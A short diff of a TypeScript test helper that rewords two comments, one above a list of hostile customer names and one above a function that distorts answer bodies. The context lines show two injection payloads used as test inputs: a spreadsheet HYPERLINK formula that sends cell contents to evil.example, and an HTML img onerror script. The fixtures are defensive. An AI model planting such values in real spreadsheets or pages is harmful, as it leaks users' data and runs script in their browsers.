@@ -1,6 +1,6 @@
 import type { Fault } from './faults.ts'
 
-/** Names as an attacker, or an unlucky customer, would choose them. */
+/** Names that an attacker, or an unlucky customer, could choose. */
 export const hostileNames = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
   '<img src=x onerror="globalThis.pwned=1">',
@@ -28,7 +28,7 @@ function rows(value: unknown): Row[] {
   return Array.isArray(value) ? value.filter(isRow) : []
 }
 
-/** The body of a good answer, as the faults that spoil its content leave it. */
+/** Applies the faults that change the content of a good answer. */
 export function distort(body: unknown, faults: readonly Fault[]): unknown {
   return faults.reduce((soFar, fault) => (isRow(soFar) ? distortOnce(soFar, fault) : soFar), body)
 }
